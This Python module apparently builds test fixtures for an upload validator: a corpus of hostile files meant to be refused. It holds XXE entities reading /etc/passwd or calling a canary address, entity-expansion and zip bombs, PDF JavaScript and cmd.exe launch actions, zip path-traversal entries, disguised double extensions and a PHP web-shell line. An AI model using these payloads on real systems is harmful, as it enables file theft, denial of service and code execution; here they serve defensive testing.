"""Malicious files, made by code: each with the name it comes under; all of them are to be refused."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from PIL import Image

from vouchers.cli.demo.papers import pdf

HONEST_PDF = pdf("样例", "一行")
PROGRAMS = "exe bat cmd com scr pif msi jar js vbs ps1 sh py php phtml jsp asp aspx cgi pl html svg hta lnk"
PNG = b"\x89PNG\r\n\x1a\n"


@dataclass(frozen=True)
class Bad:
    """A file that must not be kept."""

    what: str
    name: str
    content: bytes


def all_files(canary: str) -> list[Bad]:
    """The whole corpus; `canary` is an address that nobody may call."""
    makers = (
        _disguised(),
        _misnamed(),
        _two_faced(),
        _xml(canary),
        _pdfs(canary),
        _pictures(),
        _archives("ofd"),
        _archives("xlsx"),
    )
    return [bad for maker in makers for bad in maker]


def _disguised() -> Iterator[Bad]:
    foreign = {
        "program": b"MZ\x90\x00" + bytes(200),
        "elf": b"\x7fELF\x02\x01" + bytes(200),
        "page": b"<!doctype html><html><script>alert(1)</script></html>",
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n%%EOF",
        "rtf": b"{\\rtf1 hello}",
        "old office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(200),
        "gif": b"GIF89a" + bytes(30),
        "bmp": b"BM" + bytes(60),
        "tiff": b"II*\x00" + bytes(60),
        "script": b"#!/bin/sh\nid\n",
        "php": b"<?php system($_GET[0]); ?>",
        "film": b"\x00\x00\x00\x18ftypmp42" + bytes(60),
        "archive": _zip({"readme.txt": b"x"}),
        "rar": b"Rar!\x1a\x07\x01\x00" + bytes(30),
        "7z": b"7z\xbc\xaf\x27\x1c" + bytes(30),
        "gzip": b"\x1f\x8b\x08" + bytes(30),
        "nothing": b"",
        "text": "只是文字".encode(),
        "link": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60),
        "class": b"\xca\xfe\xba\xbe" + bytes(60),
        "late pdf": b"x" * 2_000 + HONEST_PDF,
    }
    for what, content in foreign.items():
        for suffix in ("pdf", "ofd", "xml", "png", "jpg"):
            yield Bad(f"{what} as {suffix}", f"文件.{suffix}", content)


def _misnamed() -> Iterator[Bad]:
    for suffix in ("png", "xml", "exe", "html", "", "pdf.", "PDF.exe", "p\u200bdf.js"):
        if suffix != "pdf.":
            yield Bad(f"a PDF that calls itself {suffix!r}", f"文件.{suffix}" if suffix else "文件", HONEST_PDF)
    for suffix in [
        "exe",
        "bat",
        "cmd",
        "com",
        "scr",
        "pif",
        "msi",
        "jar",
        "js",
        "vbs",
        "ps1",
        "sh",
        "py",
        "php",
        "phtml",
        "jsp",
        "asp",
        "aspx",
        "cgi",
        "pl",
        "html",
        "svg",
        "hta",
        "lnk",
    ]:
        yield Bad(f"two suffixes, {suffix}", f"发票.{suffix}.pdf", HONEST_PDF)
    for name in (
        "发票.\u202eexe.pdf",
        "发票.EXE.pdf",
        "发票.e\u200bxe.pdf",
        "发票.ｅｘｅ.pdf",
        "发票.exe. .pdf".replace(". ", "."),
    ):
        yield Bad(f"two suffixes, hidden: {name!r}", name, HONEST_PDF)


def _two_faced() -> Iterator[Bad]:
    page, archive = b"<html><script>alert(1)</script></html>", _zip({"evil.jar": b"x"})
    picture, photo = _picture("PNG"), _picture("JPEG")
    yield Bad("PDF with a page in its head", "a.pdf", b"%PDF-1.7\n" + page + HONEST_PDF[9:])
    yield Bad("PDF with a page behind its end", "a.pdf", HONEST_PDF + page)
    yield Bad("PDF with an archive behind its end", "a.pdf", HONEST_PDF + archive)
    yield Bad("PDF with a drawing in its tail", "a.pdf", HONEST_PDF + b"<svg onload=alert(1)>")
    yield Bad("PDF with a frame", "a.pdf", HONEST_PDF + b"< IFRAME src=x>")
    yield Bad("PNG with an archive behind its end", "a.png", picture + archive)
    yield Bad("JPEG with an archive behind its end", "a.jpg", photo + archive)
    yield Bad("PNG with a page behind its end", "a.png", picture + page)
    yield Bad("JPEG with a page behind its end", "a.jpg", photo + page)
    yield Bad("a signature and nothing else", "a.png", PNG)
    yield Bad("half a picture", "a.png", picture[: len(picture) // 2])
    yield Bad("a JPEG of nonsense", "a.jpg", b"\xff\xd8\xff\xe0" + bytes(range(256)) * 8)
    yield Bad("a PNG that is a GIF inside", "a.png", PNG + b"GIF89a" + bytes(100))


def _xml(canary: str) -> Iterator[Bad]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    documents = {
        "a file": '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        "an address": f'<!DOCTYPE r [<!ENTITY x SYSTEM "{canary}/x">]><r>&x;</r>',
        "an outer DTD": f'<!DOCTYPE r SYSTEM "{canary}/x.dtd"><r/>',
        "a public DTD": f'<!DOCTYPE r PUBLIC "-//X//Y" "{canary}/p.dtd"><r/>',
        "a parameter entity": f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{canary}/p"> %p;]><r/>',
        "a billion laughs": f'<!DOCTYPE r [<!ENTITY l0 "lol">{laughs}]><r>&l9;</r>',
        "a quadratic blow-up": f'<!DOCTYPE r [<!ENTITY q "{"q" * 50_000}">]><r>{"&q;" * 5_000}</r>',
        "an attribute list": '<!DOCTYPE r [<!ATTLIST r a CDATA "x">]><r/>',
        "an entity alone": '<r><![CDATA[x]]></r><!ENTITY x "y">',
    }
    codes = ("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-7", "utf-32", "cp037")
    for what, body in documents.items():
        for code in codes:
            declared = "utf-16" if code.startswith("utf-16") else code.removesuffix("-sig")
            text = f'<?xml version="1.0" encoding="{declared}"?>{body}'
            yield Bad(f"XML with {what} in {code}", "发票.xml", text.encode(code))
    head = '<?xml version="1.0"?>'
    shapes = {
        "depth of 100,000": "<a>" * 100_000 + "</a>" * 100_000,
        "a million attributes": "<a " + " ".join(f'a{n}="1"' for n in range(1_000_000)) + "/>",
        "60,000 elements": "<a>" + "<b/>" * 60_000 + "</a>",
        "depth without an end": "<a>" * 200_000,
        "a tag without an end": "<" + "a" * 5_000_000,
        "an attribute without an end": '<a b="' + "x" * 5_000_000,
        "an included file": f'<a xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="{canary}/i"/></a>',
        "a style sheet": f'<?xml-stylesheet type="text/xsl" href="{canary}/s.xsl"?><a/>',
        "XHTML by another name": '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
        "a drawing by another name": '<s:svg xmlns:s="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "a transformation": '<t:stylesheet xmlns:t="http://www.w3.org/1999/XSL/Transform"/>',
        "an unknown entity": "<a>&nbsp;</a>",
        "two roots": "<a/><b/>",
        "no root": "",
        "a stray end": "</a>",
        "a number beyond Unicode": "<a>&#x110000;</a>",
        "a null": "<a>\x00</a>",
        "comments alone": "<!--" + "-" * 100_000,
        "an undeclared prefix and no end": "<x:a>",
        "the same attribute twice": '<a b="1" b="2"/>',
        "namespaces without end": "<a " + " ".join(f'xmlns:n{n}="u{n}"' for n in range(100_000)) + "/>",
        "more than its limit": "<a>" + "x" * (10 * 2**20 + 1) + "</a>",
    }
    for what, body in shapes.items():
        yield Bad(f"XML with {what}", "发票.xml", (head + body).encode())
    yield Bad("XML in bytes of no code", "发票.xml", head.encode() + b"<a>\xff\xfe\xfd</a>")
    yield Bad("XML that claims UTF-7", "发票.xml", b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE r+AD4-<r/>')


def _pdfs(canary: str) -> Iterator[Bad]:
    script = b"<</S/JavaScript/JS(app.alert(1))>>"
    for letter in "JavScript":
        escaped = "JavaScript".replace(letter, f"#{ord(letter):02x}", 1).encode()
        yield Bad(f"PDF with a script, {letter} escaped", "a.pdf", pdf_of(b"<</S/" + escaped + b"/JS(x)>>"))
    acts = {
        "a script": script,
        "a program": b"<</S/Launch/F(cmd.exe)>>",
        "a form that is sent": f"<</S/SubmitForm/F({canary}/f)>>".encode(),
        "data that is fetched": b"<</S/ImportData/F(x.fdf)>>",
        "a way into an attachment": b"<</S/GoToE/T<</R/C>>>>",
        "a film": b"<</Type/Annot/Subtype/RichMedia>>",
        "a rendition": b"<</S/Rendition/OP 0>>",
        "an XFA form": b"<</XFA 9 0 R>>",
    }
    for what, body in acts.items():
        yield Bad(f"PDF with {what}", "a.pdf", pdf_of(body))
        yield Bad(f"PDF with {what}, packed", "a.pdf", pdf_of(_objects(body)))
        yield Bad(
            f"PDF with {what}, in a stream that is none", "a.pdf", pdf_of(stream(b"", b"x\n8 0 obj" + body + b"\n"))
        )
    yield Bad(
        "PDF with a script, packed twice", "a.pdf", pdf_of(_objects(script, b"/Filter[/ASCIIHexDecode/FlateDecode]"))
    )
    yield Bad("PDF with a script, packed by LZW", "a.pdf", pdf_of(_objects(script, b"/Filter/LZWDecode")))
    yield Bad(
        "PDF with a script, predicted",
        "a.pdf",
        pdf_of(_objects(script, b"/Filter/FlateDecode/DecodeParms<</Predictor 12>>")),
    )
    yield Bad(
        "PDF with objects that cannot be unpacked",
        "a.pdf",
        pdf_of(stream(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", b"xx")),
    )
    for what, body in {
        "a program": b"MZ" + bytes(99),
        "a page": b"<html>x",
        "XML with a DTD": b"<?xml?><!DOCTYPE a><a/>",
    }.items():
        kept = stream(b"/Type/EmbeddedFile/Filter/FlateDecode", zlib.compress(body))
        yield Bad(f"PDF with {what} attached", "a.pdf", pdf_of(b"<</Type/Filespec/EF<</F 9 0 R>>>>", kept))
    yield Bad(
        "PDF with an attachment of no type", "a.pdf", pdf_of(b"<</Type/Filespec/EF<</F 9 0 R>>>>", stream(b"", b"MZ"))
    )
    yield Bad("PDF under a password", "a.pdf", HONEST_PDF.replace(b"/Root 1 0 R", b"/Root 1 0 R/Encrypt 9 0 R"))
    yield Bad("PDF under a password, packed", "a.pdf", pdf_of(_objects(b"<</Encrypt 9 0 R>>")))
    yield Bad("PDF that swells", "a.pdf", pdf_of(stream(b"/Filter/FlateDecode", _zeros(150 * 2**20))))
    yield Bad(
        "PDF whose objects swell",
        "a.pdf",
        pdf_of(stream(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", _zeros(64 * 2**20))),
    )
    yield Bad(
        "PDF that swells in many parts", "a.pdf", pdf_of(*[stream(b"/Filter/FlateDecode", _zeros(90 * 2**20))] * 13)
    )
    yield Bad("PDF of 10,000 pages", "a.pdf", pdf_of(b"".join(b"<</Type/Page/Parent 2 0 R>>\n" for _ in range(10_000))))
    yield Bad("PDF of 10,000 pages, packed", "a.pdf", pdf_of(_objects(b"<</Type /Page>>" * 10_000)))
    yield Bad("PDF of deep lists", "a.pdf", pdf_of(b"[" * 100_000))
    yield Bad("PDF of deep dictionaries", "a.pdf", pdf_of(b"<</A" * 100_000))
    body = HONEST_PDF[: HONEST_PDF.rindex(b"xref\n0 8")]
    looped = body + f"xref\n0 0\ntrailer<</Root 1 0 R/Prev {len(body)}>>\nstartxref\n{len(body)}\n%%EOF\n".encode()
    yield Bad("PDF whose table leads to itself", "a.pdf", looped)
    there = len(looped)
    pair = body + f"xref\n0 0\ntrailer<</Prev {there:06d}>>\nstartxref\n0\n%%EOF\n".encode().ljust(there - len(body))
    yield Bad(
        "PDF whose tables lead to each other",
        "a.pdf",
        pair + f"xref\n0 0\ntrailer<</Prev {len(body)}>>\nstartxref\n{there}\n%%EOF\n".encode(),
    )


def _pictures() -> Iterator[Bad]:
    for width, height in ((65_535, 65_535), (2**31 - 1, 1), (1, 2**31 - 1), (20_000, 20_000), (0, 0), (100_000, 1_000)):
        yield Bad(f"PNG of {width}×{height}", "a.png", _png(width, height, zlib.compress(bytes(1_000))))
    yield Bad("JPEG of 65535×65535", "a.jpg", _jpeg_of(65_535, 65_535))
    yield Bad("JPEG of 60000×60000", "a.jpg", _jpeg_of(60_000, 60_000))
    yield Bad("PNG with a broken sum", "a.png", _picture("PNG")[:-20] + bytes(20))
    yield Bad("half a JPEG", "a.jpg", _picture("JPEG")[:300])


def _archives(suffix: str) -> Iterator[Bad]:
    parts = {"ofd": {"OFD.xml": b"<ofd/>"}, "xlsx": {"[Content_Types].xml": b"<t/>", "xl/workbook.xml": b"<w/>"}}[
        suffix
    ]
    honest, name = _zip(parts), f"文件.{suffix}"
    contents: dict[str, dict[str, bytes]] = {
        "a 1000:1 bomb": {"bomb.xml": bytes(120 * 2**20)},
        "many bombs": {f"b{n}.xml": bytes(30 * 2**20) for n in range(4)},
        "2,100 entries": {f"e{n}": b"" for n in range(2_100)},
        "an archive inside": {"inner.dat": _zip({"x": b"y"})},
        "an archive by name": {"inner.zip": b"x"},
        "a program": {"a.dat": b"MZ" + bytes(99)},
        "a program by name": {"a.exe": b"x"},
        "a page": {"a.html": b"x"},
        "macros": {"xl/vbaProject.bin": b"x"},
        "a way out": {"../evil.xml": b"x"},
        "an absolute way out": {"/etc/evil.xml": b"x"},
        "a way out in Windows": {"..\\evil.xml": b"x"},
        "a drive": {"C:/evil.xml": b"x"},
        "a control character": {"a\nb.xml": b"x"},
        "an entity": {"a.xml": b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'},
    }
    for what, more in contents.items():
        yield Bad(f"{suffix} with {what}", name, _zip(parts | more))
    yield Bad(f"{suffix} with the same name twice", name, _zip(parts, twice="a.xml"))
    yield Bad(f"{suffix} with a link", name, _zip(parts, link="a.xml"))
    yield Bad(f"{suffix} without what it must have", name, _zip({f"x/{key}x": b"" for key in parts}))
    yield Bad(f"{suffix} cut off", name, honest[:-30])
    yield Bad(
        f"{suffix} with a wrong sum",
        name,
        _wrongly_summed(honest),
    )
    yield Bad(f"{suffix} behind a password", name, _flagged(honest))
    yield Bad(f"{suffix} with bytes behind its end", name, honest + b"MZ" + bytes(200))
    yield Bad(f"{suffix} in LZMA", name, _zip(parts, method=zipfile.ZIP_LZMA))
    yield Bad(f"{suffix} whose entries overlap", name, _overlapping(parts))
    yield Bad(
        f"{suffix} that lies about a name",
        name,
        honest.replace(next(iter(parts)).encode(), b"X" * len(next(iter(parts))), 1),
    )


def pdf_of(*objects: bytes) -> bytes:
    more = b"\n".join(f"{n} 0 obj".encode() + body + b"endobj" for n, body in enumerate(objects, start=8))
    cut = HONEST_PDF.rindex(b"xref\n0 8")
    return HONEST_PDF[:cut] + more + b"\n" + HONEST_PDF[cut:]


def stream(head: bytes, body: bytes) -> bytes:
    return b"<<" + head + f"/Length {len(body)}>>stream\n".encode() + body + b"\nendstream "


def _objects(body: bytes, filters: bytes = b"/Filter/FlateDecode") -> bytes:
    return stream(b"/Type/ObjStm/N 1/First 5" + filters, zlib.compress(b"12 0 " + body))


def metadata(canary: str) -> bytes:
    """XMP that grows by entities and calls for one from elsewhere."""
    grown = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    head = f'<!DOCTYPE x [<!ENTITY a0 "ha">{grown}<!ENTITY far SYSTEM "{canary}/x">]>'
    text = f'<?xpacket begin=""?>{head}<x:xmpmeta xmlns:x="adobe:ns:meta/">&a9;&far;</x:xmpmeta>'
    return stream(b"/Type/Metadata/Subtype/XML", text.encode())


def lzw_zeros(times: int) -> bytes:
    """So many times 7 MiB of zeros, packed as tightly as LZW can: each code one byte longer than the one before."""
    bits = []
    for _ in range(times):
        bits += [f"{256:09b}", f"{0:09b}"]
        bits += [f"{code:0{(code + 1).bit_length()}b}" for code in range(258, 4093)]
        bits.append(f"{256:012b}")
    text = "".join(bits) + f"{257:09b}"
    return int(text.ljust(-(-len(text) // 8) * 8, "0"), 2).to_bytes(-(-len(text) // 8))


def _zeros(count: int) -> bytes:
    packing = zlib.compressobj(9)
    return b"".join([*(packing.compress(bytes(2**20)) for _ in range(count // 2**20)), packing.flush()])


def _picture(kind: str) -> bytes:
    out = io.BytesIO()
    Image.effect_noise((40, 40), 50).save(out, kind)
    return out.getvalue()


def _png(width: int, height: int, pixels: bytes) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return PNG + _chunk(b"IHDR", head) + _chunk(b"IDAT", pixels) + _chunk(b"IEND", b"")


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _jpeg_of(width: int, height: int) -> bytes:
    photo = _picture("JPEG")
    place = photo.index(b"\xff\xc0") + 5
    return photo[:place] + struct.pack(">HH", height, width) + photo[place + 4 :]


def _zip(parts: dict[str, bytes], *, twice: str = "", link: str = "", method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, body in parts.items():
            archive.writestr(zipfile.ZipInfo(name), body, method)
        if link:
            entry = zipfile.ZipInfo(link)
            entry.external_attr = 0o120777 << 16
            archive.writestr(entry, "/etc/passwd")
        if twice:
            archive.writestr(zipfile.ZipInfo(twice), b"1")
            archive.writestr(zipfile.ZipInfo(twice.upper()), b"2")
    return out.getvalue()


def _flagged(archive: bytes) -> bytes:
    """Every entry says that it is encrypted, in both places where it may say so."""
    changed = bytearray(archive)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = archive.find(mark)
        while place >= 0:
            changed[place + offset] |= 1
            place = archive.find(mark, place + 4)
    return bytes(changed)


def _overlapping(parts: dict[str, bytes]) -> bytes:
    """Two directory entries that name the same local bytes."""
    honest = _zip({**parts, "a1.xml": b"same", "a2.xml": b"same"})
    changed = bytearray(honest)
    first, second = (honest.index(b"PK\x01\x02", 0), 0)
    entries = []
    while first >= 0:
        entries.append(first)
        first = honest.find(b"PK\x01\x02", first + 4)
    second = entries[-1]
    changed[second + 42 : second + 46] = honest[entries[-2] + 42 : entries[-2] + 46]
    return bytes(changed)


def _wrongly_summed(archive: bytes) -> bytes:
    """The first entry's sum in the directory is another."""
    place = archive.index(b"PK\x01\x02") + 16
    return archive[:place] + b"\x00\x01\x02\x03" + archive[place + 4 :]
